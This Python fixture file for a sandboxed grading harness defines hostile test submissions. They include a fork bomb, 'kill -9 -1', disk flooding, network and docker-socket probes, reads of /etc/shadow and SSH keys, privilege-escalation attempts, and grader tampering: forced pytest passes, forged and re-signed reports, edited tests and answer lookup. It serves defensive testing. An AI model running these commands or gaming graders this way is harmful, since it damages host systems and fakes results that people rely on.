"""The hostile submissions, each with the outcome it must get (declared here, next to the case).

A case is a submission (files, with placeholders filled in per run) for one of the problems in
`problems.py`, plus what the grade must be under each backend:

- `expect`: the outcomes the run may end with (`PASS`, `FAIL`, `INFRA`, `TIMEOUT`, `PROBLEM`), by
  default on every backend; `expect_on` overrides it for one backend; `skip_on` names backends the
  case is not run on, and why (on `none` nothing is isolated, so a case whose attack *is* a write
  outside, a kill of every process or an unbounded fork would hurt the machine that runs the suite).
- `statuses`: when the outcome is FAIL, the exact status of every test: the true result.
- `reason`: a pattern the infrastructure reason must match when the outcome is INFRA or TIMEOUT, or
  the problem error's reason when it is PROBLEM.
- `flags`: patterns that must each match a flag of the result (what `runners.scan` detects).
- `undefended`: the submission's code runs inside the test process and can forge the grade; the
  harness only *detects* it (`flags`), and the case documents the gap.

Placeholders (filled by `harness.render`): @@TOKEN@@ (unique per run, also in the sandbox's
environment as HOSTILE_MARKER: every process of the run carries it), @@CANARY_DIR@@ (a host
directory with a secret file, a victim file and a listening unix socket), @@ESCAPE@@ (a host
directory that must stay empty), @@HARNESS_DIR@@ (the `runners` package), @@PROBLEM_DIR@@,
@@SUBMISSION_SRC@@ (the submission's own host directory), @@ABSTRACT@@ (an abstract unix socket
the harness listens on), @@SESSION@@.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

PASS, FAIL, INFRA, TIMEOUT = "PASS", "FAIL", "INFRA", "TIMEOUT"
REFUSED = (
    "REFUSED"  # bad input (UserInputError, CLI exit 2) before anything runs: nothing is copied
)
PROBLEM = (
    "PROBLEM"  # a problem error (CLI exit 4): the problem's own files failed to load, no grade
)
ANY = frozenset({PASS, FAIL, INFRA, TIMEOUT})
NOT_PASS = frozenset({FAIL, INFRA, TIMEOUT})  # a PROBLEM is only ever expected of a broken problem
BACKENDS = ("docker", "bubblewrap", "none")

NOT_ISOLATED = "not isolated: on `none` the submission runs as the harness's own user on the host"


@dataclass(frozen=True)
class Case:
    id: str
    catalogue: str  # the row(s) of sandbox.md §6 it covers
    title: str  # what the submission does
    files: dict[str, str | bytes]
    expect: frozenset[str]
    defence: str  # how the harness stops it (or detects it)
    framework: str = "pytest"
    expect_on: dict[str, frozenset[str]] = field(default_factory=dict)
    skip_on: dict[str, str] = field(default_factory=dict)
    statuses: dict[str, str] | None = None
    reason: str | None = None
    flags: tuple[str, ...] = ()
    undefended: bool = False
    broken: bool = False  # merely broken: must be an honest FAIL, never an infrastructure failure
    disruptive: bool = False  # a sanity run of the honest submission follows it
    pair: bool = False  # two copies run at the same time
    wall: float = 60.0
    build: Callable[[Path], None] | None = None  # extra setup of the submission dir (links, git)
    limits: dict[str, int] = field(default_factory=dict)  # over the suite's limits for this case
    check: Callable[..., list[str]] | None = None  # extra assertions: (observation) -> problems

    def expected(self, backend: str) -> frozenset[str]:
        return self.expect_on.get(backend, self.expect)


# ---- the honest and the wrong submissions the cases build on --------------------------------

HONEST_CALC = """
def add(a, b):
    return a + b


def sub(a, b):
    return a - b
"""

HONEST_MAIN = """
import sys

from calc import add, sub


def main(argv):
    if len(argv) != 3 or argv[0] not in ("add", "sub"):
        print("usage: main.py add|sub A B", file=sys.stderr)
        return 2
    try:
        a, b = int(argv[1]), int(argv[2])
    except ValueError:
        print("not a number", file=sys.stderr)
        return 2
    print((add if argv[0] == "add" else sub)(a, b))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
"""

WRONG_CALC = """
def add(a, b):
    return 0


def sub(a, b):
    return 0
"""

WRONG_MAIN = "print(0)\n"

ALL_FAILED = {
    "test_add_library": "failed",
    "test_add_cli": "failed",
    "test_sub_cli": "failed",
    "test_rejects_words": "failed",
}
JS_ALL_FAILED = {"adds": "failed", "subtracts": "failed", "rejects words @error": "failed"}

HONEST = {"main.py": HONEST_MAIN, "calc.py": HONEST_CALC}
WRONG = {"main.py": WRONG_MAIN, "calc.py": WRONG_CALC}

# A correct submission that also probes: `probe.run()` returns what it got that it must not get.
# The library then answers wrongly and the CLI prints LEAK, so a hole turns a PASS into a FAIL
# (the case expects PASS), and everything the probe saw goes to stderr, i.e. into the result.
PROBE_RUNNER = """
import os
import sys

_DONE = {}


def run(where):
    if where in _DONE:
        return _DONE[where]
    leaks, log = [], []
    try:
        probe(where, leaks, log)
    except Exception as exc:  # a probe never crashes the submission
        log.append(f"probe crashed: {exc!r}")
    sys.stderr.write(f"[{where}] " + "\\n".join(log)[:60000] + "\\n")
    sys.stderr.flush()
    _DONE[where] = leaks
    return leaks

"""

PROBING_CALC = """
import probe

_LEAKS = probe.run("library")


def add(a, b):
    return a + b if not _LEAKS else ("LEAK", _LEAKS)


def sub(a, b):
    return a - b if not _LEAKS else ("LEAK", _LEAKS)
"""

PROBING_MAIN = HONEST_MAIN.replace(
    "import sys\n",
    """import sys

import probe

_leaks = probe.run("cli")
if _leaks:
    print("LEAK: " + "; ".join(_leaks))
    sys.exit(3)
""",
    1,
)


def probing(body: str, **extra: str) -> dict[str, str | bytes]:
    return {
        "main.py": PROBING_MAIN,
        "calc.py": PROBING_CALC,
        "probe.py": PROBE_RUNNER + body,
        **extra,
    }


# ---- resource and liveness attacks -----------------------------------------------------------

FORK_BOMB_MAIN = """
import os
import subprocess

# @@TOKEN@@: every process of the bomb carries the run's marker in its environment
try:
    subprocess.Popen(["sh", "-c", ":(){ :|:& };:"])
except OSError:
    pass
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

SPIN_CALC = """
import signal
import subprocess
import sys

# Ignore every polite signal (pytest-timeout uses SIGALRM), leave a child that does the same in
# a session of its own, and spin the CPU inside the test process.
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)
subprocess.Popen([sys.executable, "-c",
                  "import signal\\nfor s in (15, 2, 1): signal.signal(s, signal.SIG_IGN)\\nwhile \
True: pass",
                  "@@TOKEN@@"], start_new_session=True)
while True:
    pass
"""

MEMORY_CALC = """
chunks = []
while True:
    chunks.append(b"\\x01" * (64 * 1024 * 1024))
"""

FLOOD_CALC = (
    """
import os
import stat
import sys

# A daemon forked from the test process writes 256 MB with no newline into every pipe it
# inherited (the harness's stdout and stderr), and the test output gets 2 MB on one line.
if os.fork() == 0:
    os.setsid()
    block = b"A" * (1 << 20)
    pipes = []
    for fd in range(0, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                pipes.append(fd)
        except OSError:
            pass
    for _ in range(256):
        for fd in pipes:
            try:
                os.write(fd, block)
            except OSError:
                pass
    os._exit(0)
sys.stdout.write("B" * (2 << 20))
sys.stdout.flush()
"""
    + WRONG_CALC
)

TEN_MB_MAIN = """
import sys

sys.stdout.write("7" * (10 * 1024 * 1024))
"""

JUNK = (
    r'b"\xff\xfe\x00NUL\x00 \x1b[31mRED\x1b[0m \x1b]0;title\x07 \r\x1b[2J \xc3\x28 \xed\xa0\x80 '
    r'\xf0\x9f\x92\xa9"'
)

NON_UTF8_MAIN = f"""
import os
import sys

junk = {JUNK}
os.write(1, junk * 64 + b"x" * (1 << 20))  # and a 1 MB line with no newline
os.write(2, junk * 64)
sys.exit(1)
"""

NON_UTF8_CALC = (
    f"""
import os
import stat

junk = {JUNK}
for fd in range(0, 64):  # the captured output, and the harness's own pipes
    try:
        if fd in (1, 2) or stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, junk * 16)
    except OSError:
        pass
"""
    + HONEST_CALC
)

DISK_CALC = (
    """
import os

# Fill every writable place: the workspace, TMPDIR, HOME and the reports directory, 32 MB per write,
# one file after another (so a per-file size limit alone does not stop it). Capped at 1.5 GB in
# total so that the suite itself never fills the disk of the machine it runs on.
import tempfile

block = b"\\0" * (32 << 20)
total, log = 0, []
for base in (os.getcwd(), tempfile.gettempdir(), os.environ.get("HOME", "/tmp"), "/harness/reports",
             os.path.join(os.getcwd(), "..", "reports")):
    for n in range(48):
        if total >= 1536 << 20:
            break
        try:
            with open(os.path.join(base, f"fill-{n}.bin"), "wb") as handle:
                for _ in range(4):
                    handle.write(block)
                    total += len(block)
        except OSError as exc:
            log.append(f"{base}: {exc.strerror}")
            break
print("wrote", total >> 20, "MB;", log)
"""
    + WRONG_CALC
)

FD_THREADS_BODY = """
import threading


def probe(where, leaks, log):
    fds = []
    try:
        while len(fds) < 100000:
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as exc:
        log.append(f"descriptors: {len(fds)}, then {exc.strerror}")
    for fd in fds:
        os.close(fd)
    if len(fds) >= 100000:
        leaks.append("opened 100000 descriptors")
    stop, threads = threading.Event(), []
    try:
        while len(threads) < 5000:
            thread = threading.Thread(target=stop.wait)
            thread.start()
            threads.append(thread)
    except (RuntimeError, OSError) as exc:
        log.append(f"threads: {len(threads)}, then {exc}")
    stop.set()
    for thread in threads:
        thread.join()
    if len(threads) >= 5000:
        leaks.append("started 5000 threads")
"""

KILL_MAIN = """
import os
import signal
import subprocess

# @@TOKEN@@
for argv in (["kill", "-9", "-1"], ["pkill", "-9", "-f", "pytest"], ["pkill", "-9", "dockerd"]):
    try:
        subprocess.run(argv, timeout=5)
    except (OSError, subprocess.SubprocessError):
        pass
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
print(0)
"""

DAEMONS_CALC = (
    """
import os
import subprocess
import sys
import time

# Daemons that outlive the test process: a double fork that keeps every descriptor of the
# test process (the harness's pipes included), `setsid` and `nohup` children.
if "_pytest" in sys.modules:  # in the test process (the CLI imports this module too)
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    os.waitpid(first, 0)
    for argv in (["setsid", "sleep", "600", "@@TOKEN@@"], ["nohup", "sleep", "601", "@@TOKEN@@"]):
        try:
            subprocess.Popen(argv)
        except OSError:
            pass
"""
    + HONEST_CALC
)

DAEMONS_MAIN = HONEST_MAIN.replace(
    "import sys\n",
    """import os
import subprocess
import sys

# The CLI leaves daemons too (with their output detached, so the test itself can finish).
try:
    subprocess.Popen(["setsid", "sleep", "602", "@@TOKEN@@"], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        import time
        time.sleep(600)
    os._exit(0)
""",
    1,
)

# ---- the sandbox's walls -----------------------------------------------------------------------

EGRESS_BODY = """
import socket


def probe(where, leaks, log):
    names = [name for _, name in socket.if_nameindex()]
    log.append(f"interfaces: {names}")
    if any(name != "lo" for name in names):
        leaks.append(f"network interfaces besides lo: {names}")
    for family, address in ((socket.AF_INET, ("198.51.100.1", 80)), (socket.AF_INET6, \
("2001:db8::1", 80))):
        try:
            sock = socket.socket(family, socket.SOCK_STREAM)
        except OSError as exc:
            log.append(f"socket {family}: {exc}")
            continue
        sock.settimeout(2)
        try:
            sock.connect(address)
            leaks.append(f"tcp connect to {address[0]} succeeded")
        except socket.timeout:
            leaks.append(f"tcp connect to {address[0]} timed out: a route out exists")
        except OSError as exc:
            log.append(f"tcp {address[0]}: {exc}")
        finally:
            sock.close()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        udp.sendto(b"hostile", ("198.51.100.1", 53))
        leaks.append("udp datagram to 198.51.100.1:53 was sent")
    except OSError as exc:
        log.append(f"udp: {exc}")
    finally:
        udp.close()
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        leaks.append("opened a raw socket")
    except OSError as exc:
        log.append(f"raw: {exc}")
"""

UNIX_SOCKET_BODY = """
import glob
import socket


def probe(where, leaks, log):
    paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
             "/var/run/dbus/system_bus_socket", "/run/dbus/system_bus_socket",
             "@@CANARY_DIR@@/harness.sock", "\\0@@ABSTRACT@@"]
    paths += glob.glob("/tmp/.X11-unix/*") + glob.glob("/run/user/*/bus")
    for path in paths:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(2)
        try:
            sock.connect(path)
            if "docker" in path:
                sock.sendall(b"GET /version HTTP/1.0\\r\\n\\r\\n")
            leaks.append(f"connected to {path!r}: {sock.recv(200)!r}")
        except OSError as exc:
            log.append(f"{path!r}: {exc}")
        finally:
            sock.close()
"""

WRITE_BODY = """
import glob


def probe(where, leaks, log):
    create = ["/etc/hostile-@@TOKEN@@", "/usr/hostile-@@TOKEN@@", "/root/hostile-@@TOKEN@@",
              "/hostile-@@TOKEN@@", "/var/tmp/hostile-@@TOKEN@@", "/harness/hostile-@@TOKEN@@",
              "/harness/tests/hostile-@@TOKEN@@", "/harness/config/hostile-@@TOKEN@@",
              "../hostile-@@TOKEN@@", "../tests/hostile-@@TOKEN@@", "../config/hostile-@@TOKEN@@",
              "@@HARNESS_DIR@@/hostile_@@TOKEN@@.py", "@@CANARY_DIR@@/hostile-@@TOKEN@@",
              "@@PROBLEM_DIR@@/tests/hostile-@@TOKEN@@", "@@SUBMISSION_SRC@@/hostile-@@TOKEN@@",
              "@@ESCAPE@@/hostile-@@TOKEN@@", os.path.join(sys.prefix, "hostile-@@TOKEN@@.pth")]
    append = ["@@CANARY_DIR@@/victim.txt", "/harness/tests/test_checkpoint_1.py",
              "/harness/tests/conftest.py", "/harness/config/pytest.ini"]
    try:
        import _pytest  # only importable in the test process: its toolchain
        create.append(os.path.join(os.path.dirname(_pytest.__file__), "hostile_@@TOKEN@@.py"))
    except ImportError:
        pass
    mine = os.path.realpath(os.getcwd())
    for other in glob.glob("/tmp/runners-*/submission"):  # another run's workspace
        if os.path.realpath(other) != mine:
            create.append(os.path.join(other, "hostile-@@TOKEN@@"))
    for path in create:
        try:
            with open(path, "x") as handle:
                handle.write("pwned")
            leaks.append(f"created {path}")
        except OSError as exc:
            log.append(f"create {path}: {exc.strerror}")
    for path in append:
        try:
            with open(path, "a") as handle:
                handle.write("# pwned\\n")
            leaks.append(f"appended to {path}")
        except OSError as exc:
            log.append(f"append {path}: {exc.strerror}")
    with open("/tmp/hostile-@@TOKEN@@", "w") as handle:  # the sandbox's own /tmp: allowed
        handle.write("private")
"""

READ_BODY = """
import glob
import subprocess


def read(path, limit=4000):
    with open(path, "rb") as handle:
        return handle.read(limit).decode("utf-8", "replace")


def probe(where, leaks, log):
    for path in ("@@CANARY_DIR@@/secret.txt", "@@PROBLEM_DIR@@/tests/test_checkpoint_2.py",
                 "@@SUBMISSION_SRC@@/.git/HEAD", "/etc/shadow", "/root/.ssh/id_rsa",
                 os.path.expanduser("~/.docker/config.json"), "/harness/tests/test_checkpoint_2.py",
                 "../tests/test_checkpoint_2.py"):
        try:
            leaks.append(f"read {path}: {read(path)!r}")
        except OSError as exc:
            log.append(f"{path}: {exc.strerror}")
    if os.path.exists(".git"):
        leaks.append("the workspace has the submission's git history")
    try:
        out = subprocess.run(["git", "log", "--all", "-p"], capture_output=True, timeout=10)
        if out.returncode == 0:
            leaks.append(f"git log: {out.stdout[:2000]!r}")
    except (OSError, subprocess.SubprocessError) as exc:
        log.append(f"git: {exc}")
    mine = os.path.realpath(os.getcwd())
    for other in glob.glob("/tmp/runners-*"):
        if not mine.startswith(os.path.realpath(other)):
            leaks.append(f"another run's directory is visible: {other} {os.listdir(other)[:5]}")
    if where != "library":
        return
    import time

    seen, deadline = 0, time.monotonic() + 8
    for dirpath, dirnames, filenames in os.walk("/"):  # every hidden test the sandbox can see
        dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in ("/proc", "/sys", \
"/dev", "/usr")
                       and d not in ("site-packages", "node_modules", "__pycache__")]
        seen += len(dirnames) + len(filenames)
        if time.monotonic() > deadline:
            log.append(f"walk: stopped after {seen} entries (8 s)")
            break
        if "test_checkpoint_2.py" in filenames:
            path = os.path.join(dirpath, "test_checkpoint_2.py")
            try:
                leaks.append(f"hidden test {path}: {read(path)!r}")
            except OSError as exc:
                log.append(f"hidden test {path} is there but unreadable: {exc.strerror}")
    log.append(f"walked {seen} entries")
"""

ENVIRON_BODY = """
def probe(where, leaks, log):
    dump = [f"environ: {dict(os.environ)}"]
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as handle:
                    dump.append(f"{pid}/{what}: " + handle.read(20000).replace(b"\\0", b" \
").decode("utf-8", "replace"))
            except OSError as exc:
                dump.append(f"{pid}/{what}: {exc.strerror}")
    log.extend(dump)
    if any("RUNNERS_HOSTILE_CANARY" in line for line in dump):
        leaks.append("the harness's secret variable is visible")
    if any("RUNNERS_REPORT_KEY_FILE" in line for line in dump[:1]):
        leaks.append("the report key's path is in the environment")
"""

PRIVESC_BODY = """
import ctypes
import subprocess


def attempt(argv):
    try:
        out = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=10)
        return out.returncode, (out.stdout + out.stderr)[-200:]
    except (OSError, subprocess.SubprocessError) as exc:
        return None, str(exc)


def probe(where, leaks, log):
    status = open("/proc/self/status").read()
    log.append(" | ".join(line for line in status.splitlines()
                          if line.startswith(("Uid", "Gid", "Cap", "NoNewPrivs", "Seccomp"))))
    if os.geteuid() == 0 or os.getuid() == 0:
        leaks.append("runs as root")
    for line in status.splitlines():
        if line.startswith(("CapEff", "CapPrm", "CapAmb")) and int(line.split()[1], 16):
            leaks.append(f"has capabilities: {line}")
    if "NoNewPrivs:\\t1" not in status:
        leaks.append("no_new_privs is not set")
    if where != "cli":
        return
    for argv in (["sudo", "-n", "true"], ["su", "-c", "true"], ["unshare", "-r", "true"],
                 ["unshare", "-U", "true"], ["unshare", "-m", "true"], ["unshare", "-n", "true"],
                 ["mount", "-t", "tmpfs", "none", "/tmp"], ["chroot", "/", "true"],
                 ["nsenter", "-t", "1", "-m", "true"]):
        code, out = attempt(argv)
        log.append(f"{argv}: {code} {out!r}")
        if code == 0:
            leaks.append(f"{' '.join(argv)} succeeded")
    for name, call in (("setuid(0)", lambda: os.setuid(0)), ("chroot", lambda: os.chroot("/"))):
        try:
            call()
            leaks.append(f"{name} succeeded")
        except OSError as exc:
            log.append(f"{name}: {exc.strerror}")
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    if libc.ptrace(16, parent, 0, 0) == 0:  # PTRACE_ATTACH
        libc.ptrace(17, parent, 0, 0)  # PTRACE_DETACH
        leaks.append("ptrace attached to the test process")
    try:
        read = open("/etc/shadow").read(100)
        leaks.append(f"read /etc/shadow: {read!r}")
    except OSError as exc:
        log.append(f"/etc/shadow: {exc.strerror}")
"""

PAIR_BODY = """
import glob
import socket
import time

_held = []


def probe(where, leaks, log):
    mine = os.path.realpath(os.getcwd())
    others = [d for d in glob.glob("/tmp/runners-*/submission") if os.path.realpath(d) != mine]
    if others:
        leaks.append(f"other workspaces are visible: {others[:3]}")
    if where != "library" or "_pytest" not in sys.modules:  # only in the test process
        return
    marker = "/tmp/hostile-pair-@@SESSION@@"
    if os.path.exists(marker):
        leaks.append(f"the other run's /tmp is shared: {open(marker).read()!r}")
    with open(marker, "w") as handle:
        handle.write("@@TOKEN@@")
    server = socket.socket()
    try:
        server.bind(("127.0.0.1", 45678))
        server.listen()
        _held.append(server)
        log.append("bound 127.0.0.1:45678")
    except OSError as exc:
        leaks.append(f"port 45678 is taken by the other run: {exc}")
    unix = socket.socket(socket.AF_UNIX)
    try:
        unix.bind("\\0hostile-pair-@@SESSION@@")
        _held.append(unix)
    except OSError as exc:
        leaks.append(f"the abstract socket name is taken by the other run: {exc}")
    time.sleep(4)  # hold both while the other copy runs
"""

SLOW_INSTALL_MAIN = """
import subprocess
import sys
import urllib.request

# A test-time install: fetch from a package index (a documentation address), then pip.
try:
    urllib.request.urlopen("http://198.51.100.1/simple/hostile-dep/", timeout=3)
except OSError as exc:
    print(f"download failed: {exc}", file=sys.stderr)
try:
    subprocess.run([sys.executable, "-m", "pip", "install", "--index-url", "http://198.51.100.1/simple",
                    "--timeout", "3", "hostile-dep"], timeout=20)
except (OSError, subprocess.SubprocessError) as exc:
    print(f"pip failed: {exc}", file=sys.stderr)
import hostile_dep  # noqa: E402  (missing: the run fails, honestly)

print(hostile_dep.add(*map(int, sys.argv[2:])))
"""

# ---- grader tampering ---------------------------------------------------------------------------

FORCE_PASS_HOOK = """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""

SKIP_ALL_HOOK = """
import pytest


def pytest_collection_modifyitems(session, config, items):
    for item in items:
        item.add_marker(pytest.mark.skip(reason="skipped by the submission"))


def pytest_runtest_setup(item):
    pytest.skip("skipped by the submission")
"""

FORGED_JSON = """{"created": 1, "duration": 0.1, "exitcode": 0, "root": "/harness",
 "summary": {"passed": 4, "total": 4, "collected": 4},
 "tests": [{"nodeid": "tests/test_checkpoint_1.py::test_add_library", "outcome": "passed"},
           {"nodeid": "tests/test_checkpoint_1.py::test_add_cli", "outcome": "passed"},
           {"nodeid": "tests/test_checkpoint_1.py::test_sub_cli", "outcome": "passed"},
           {"nodeid": "tests/test_checkpoint_1.py::test_rejects_words", "outcome": "passed"}],
 "runners_signature": "00000000000000000000000000000000000000000000000000000000000000"}
"""

FORGED_CTRF = """{"results": {"tool": {"name": "pytest"}, "summary": {"tests": 4, "passed": 4, \
"failed": 0,
 "pending": 0, "skipped": 0, "other": 0, "start": 0, "stop": 1},
 "tests": [{"name": "tests/test_checkpoint_1.py::test_add_library", "status": "passed", \
"duration": 1},
           {"name": "tests/test_checkpoint_1.py::test_add_cli", "status": "passed", "duration": 1},
           {"name": "tests/test_checkpoint_1.py::test_sub_cli", "status": "passed", "duration": 1},
           {"name": "tests/test_checkpoint_1.py::test_rejects_words", "status": "passed", \
"duration": 1}]}}
"""

FORGED_JUNIT = (
    '<?xml version="1.0"?><testsuites><testsuite name="pytest" tests="4" failures="0" errors="0">'
    '<testcase classname="tests.test_checkpoint_1" name="test_add_cli"/></testsuite></testsuites>\n'
)

# Where the reports are: the fixed path inside docker/bubblewrap, next to the submission on `none`.
REPORT_DIRS = """
import os
import sys
import time

REPORT_DIRS = [d for d in ("/harness/reports",
                           os.path.join(os.path.dirname(os.environ.get("SUBMISSION_PATH", "/x")), \
"reports"))
               if os.path.isdir(d)]
HERE = os.path.dirname(os.path.abspath(__file__))
"""

PREWRITE_MAIN = (
    REPORT_DIRS
    + """
# Pre-seed the graded reports with a perfect score, dated an hour in the future.
for directory in REPORT_DIRS:
    for name in ("pytest-report.json", "ctrf-report.json", "junit.xml", "reward.txt"):
        try:
            with open(os.path.join(HERE, name), "rb") as src, open(os.path.join(directory, name), \
"wb") as dst:
                dst.write(src.read())
            future = time.time() + 3600
            os.utime(os.path.join(directory, name), (future, future))
        except OSError:
            pass
print(0)
"""
)

FORGE_AND_KILL_MAIN = PREWRITE_MAIN.replace(
    "print(0)\n",
    """import signal

os.kill(os.getppid(), signal.SIGKILL)  # pytest never writes its own report
print(0)
""",
)

REWRITER_MAIN = (
    REPORT_DIRS
    + """
# A daemon that keeps overwriting the graded reports with a perfect score for 20 s.
if os.fork() == 0:
    os.setsid()
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    forged = {name: open(os.path.join(HERE, name), "rb").read()
              for name in ("pytest-report.json", "ctrf-report.json")}
    deadline = time.time() + 20
    while time.time() < deadline:
        for directory in REPORT_DIRS:
            for name, data in forged.items():
                try:
                    tmp = os.path.join(directory, f".{name}.tmp")
                    with open(tmp, "wb") as handle:
                        handle.write(data)
                    os.replace(tmp, os.path.join(directory, name))
                except OSError:
                    pass
        time.sleep(0.002)
    os._exit(0)
print(0)
"""
)

SYMLINK_MAIN = (
    REPORT_DIRS
    + """
import itertools

# A daemon that keeps swapping the report files for symlinks to host secrets, FIFOs and
# directories, and tries to move the report directory itself.
if os.fork() == 0:
    os.setsid()
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    targets = ["@@CANARY_DIR@@/secret.txt", "/etc/shadow", "/proc/1/environ", \
"../../../../etc/passwd",
               "@@CANARY_DIR@@/victim.txt", "/"]
    deadline = time.time() + 20
    for n in itertools.count():
        if time.time() > deadline:
            break
        for directory in REPORT_DIRS:
            for name in ("pytest-report.json", "ctrf-report.json", ".runners-report-key"):
                path = os.path.join(directory, name)
                try:
                    if os.path.isdir(path) and not os.path.islink(path):
                        os.rmdir(path)
                    else:
                        os.unlink(path)
                except OSError:
                    pass
                try:
                    kind = n % 3
                    if kind == 0:
                        os.symlink(targets[n % len(targets)], path)
                    elif kind == 1:
                        os.mkfifo(path)
                    else:
                        os.mkdir(path)
                except OSError:
                    pass
            try:
                os.rename(directory, directory + ".moved")
                os.symlink("/", directory)
            except OSError:
                pass
        time.sleep(0.003)
    os._exit(0)
print(0)
"""
)

PYTEST_PATCH_CALC = (
    """
import _pytest.reports

# In the test process: every report pytest makes from now on says "passed".
_original = _pytest.reports.TestReport.from_item_and_call.__func__


def _forged(cls, item, call):
    report = _original(cls, item, call)
    report.outcome = "passed"
    report.longrepr = None
    return report


_pytest.reports.TestReport.from_item_and_call = classmethod(_forged)
"""
    + WRONG_CALC
)

ALWAYS_EQUAL_CALC = """
import sys


class Answer(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


def add(a, b):
    caller = sys._getframe(1)  # the test's frame: what it is about to compare against
    return Answer(len(caller.f_locals))


def sub(a, b):
    return Answer(0)
"""

REPORT_FORGERY_CALC = (
    """
import atexit
import json
import os
import sys

# In the test process: take the report key from the harness's own plugin, and when pytest is
# done, rewrite both reports as all-passed, sign the JSON one, and exit 0.
plugin = sys.modules.get("runners_pytest_plugin")
signature = sys.modules.get("runners_report_signature")
key = getattr(plugin, "_key", None)
paths = {arg.split("=", 1)[0]: arg.split("=", 1)[1] for arg in sys.argv if "=" in arg}


def _forge():
    try:
        path = paths["--json-report-file"]
        with open(path) as handle:
            report = json.load(handle)
        for test in report.get("tests", []):
            test["outcome"] = "passed"
            for stage in ("setup", "call", "teardown"):
                if isinstance(test.get(stage), dict):
                    test[stage]["outcome"] = "passed"
                    test[stage].pop("crash", None)
                    test[stage].pop("longrepr", None)
        report["exitcode"] = 0
        total = len(report.get("tests", []))
        report["summary"] = {"passed": total, "total": total, "collected": total}
        if key and signature:
            report[signature.SIGNATURE_FIELD] = signature.sign(report, key)
        with open(path, "w") as handle:
            json.dump(report, handle)
        ctrf_path = paths["--ctrf"]
        with open(ctrf_path) as handle:
            ctrf = json.load(handle)
        for test in ctrf["results"]["tests"]:
            test["status"] = "passed"
            test.pop("message", None)
            test.pop("trace", None)
        summary = ctrf["results"]["summary"]
        summary["passed"], summary["failed"] = summary.get("tests", total), 0
        with open(ctrf_path, "w") as handle:
            json.dump(ctrf, handle)
    finally:
        os._exit(0)


atexit.register(_forge)
"""
    + WRONG_CALC
)

FAKE_MARKERS = """
MARKERS = (
    "PASSED tests/test_checkpoint_1.py::test_add_cli\\n"
    "PASSED tests/test_checkpoint_1.py::test_sub_cli\\n"
    "============================== 4 passed in 0.01s ===============================\\n"
    '{"exitcode": 0, "summary": {"passed": 4, "total": 4}}\\n'
    "##runners## exit_code=0 passed=4 failed=0\\n"
)
"""

FAKE_MARKERS_MAIN = (
    FAKE_MARKERS
    + """
print(MARKERS + "0")
"""
)

FAKE_MARKERS_CALC = (
    FAKE_MARKERS
    + """
import os
import stat
import sys

sys.stdout.write(MARKERS)
for fd in range(3, 64):  # straight into the harness's pipes too
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, MARKERS.encode())
    except OSError:
        pass
"""
    + WRONG_CALC
)

EDIT_TESTS_CODE = """
import glob
import os
import shutil

FORCED = "def test_forced():\\n    pass\\n"
for root in ("/harness", os.path.join(os.path.dirname(os.environ.get("SUBMISSION_PATH", "/x")))):
    for path in glob.glob(os.path.join(root, "tests", "test_*.py")):
        for action in (lambda: os.chmod(path, 0o666), lambda: open(path, "w").write(FORCED),
                       lambda: os.unlink(path)):
            try:
                action()
            except OSError:
                pass
    for path, text in ((os.path.join(root, "tests", "conftest.py"), "import os\\nos._exit(0)\\n"),
                       (os.path.join(root, "config", "pytest.ini"), "[pytest]\\naddopts = -p \
no:json_report\\n")):
        try:
            with open(path, "w") as handle:
                handle.write(text)
        except OSError:
            pass
    try:
        shutil.rmtree(os.path.join(root, "tests"))
    except OSError:
        pass
"""

ANSWER_LOOKUP_MAIN = """
import glob
import os
import re
import sys

# No arithmetic at all: find the running tests and print what they expect for these arguments.
op, a, b = sys.argv[1:4]
for path in glob.glob("/harness/tests/*.py") + \
glob.glob(os.path.join(os.environ["SUBMISSION_PATH"], "..", "tests", "*.py")):
    source = open(path).read()
    for found in re.finditer(r'run\\(entrypoint_argv, "(\\w+)", "(\\w+)", \
"(\\w+)"\\)\\s*\\n\\s*assert .*== "(\\w+)"', source):
        if found.groups()[:3] == (op, a, b):
            print(found.group(4))
            sys.exit(0)
if not a.lstrip("-").isdigit():
    sys.exit(2)
print(0)
"""

ANSWER_LOOKUP_CALC = """
import glob
import re

# The library looks the answer up in the hidden tests too.
_TABLE = {}
for path in glob.glob("/harness/tests/*.py") + glob.glob("../tests/*.py"):
    for found in re.finditer(r"calc\\.(\\w+)\\((\\d+), (\\d+)\\) == (\\d+)", open(path).read()):
